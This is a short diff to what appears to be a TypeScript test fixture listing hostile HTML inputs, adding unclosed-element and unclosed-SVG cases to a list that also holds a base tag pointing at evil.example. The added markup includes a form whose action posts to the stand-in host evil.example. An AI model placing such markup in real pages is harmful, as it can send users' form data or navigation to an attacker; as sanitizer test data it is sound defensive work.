@@ -49,6 +49,11 @@ const MARKUP: [what: string, markup: string][] = [
     }</form>`,
   ],
   ["a base address", `<base href="https://evil.example/shop/" target=_top>`],
+  [
+    "elements that are never closed",
+    "<b><i><p><form action=https://evil.example/><select><option><table><tr><td>",
+  ],
+  ["a drawing that is never closed", "<svg><g><title>"],
   ["what looks like the end of a script", `&lt;/script&gt;<!-- <script> -->`],
 ];
 
